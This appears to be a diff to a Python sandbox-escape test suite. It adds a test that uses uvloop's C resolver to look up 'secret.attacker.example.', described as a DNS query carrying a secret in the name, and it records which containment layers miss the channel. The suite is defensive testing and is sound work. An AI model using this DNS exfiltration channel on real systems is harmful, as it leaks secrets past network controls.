@@ -172,9 +172,28 @@ def uvloop_datagram(out: Outside) -> None:
     Layer.NOTHING, why=_NOT_HELD, held_by=Outer.NETWORK_POLICY, blind_spot=_DATAGRAMS
 )
 def cffi_datagram(out: Outside) -> None:
-    """A datagram from C, as a look-up of `secret.attacker.example` by a resolver in C is one."""
+    """A datagram from C."""
     with socket.socket(type=socket.SOCK_DGRAM) as sock:
         _check(_c().sendto(sock.fileno(), b"x", 1, 0, *_packed(out)))
+
+
+@past_python.tries(
+    Layer.NOTHING,
+    resolver=True,
+    why=_NOT_HELD,
+    held_by=Outer.NOTHING,
+    blind_spot=_DATAGRAMS,
+)
+def uvloop_look_up(_out: Outside) -> None:
+    """A look-up in C that carries a secret in the name, by a loop of uvloop."""
+    import uvloop  # noqa: PLC0415
+
+    async def look_up() -> None:
+        with contextlib.suppress(socket.gaierror):  # nobody answers
+            await asyncio.get_running_loop().getaddrinfo("secret.attacker.example.", 443)
+
+    with asyncio.Runner(loop_factory=uvloop.new_event_loop) as runner:
+        runner.run(look_up())
 
 
 @past_python.tries(
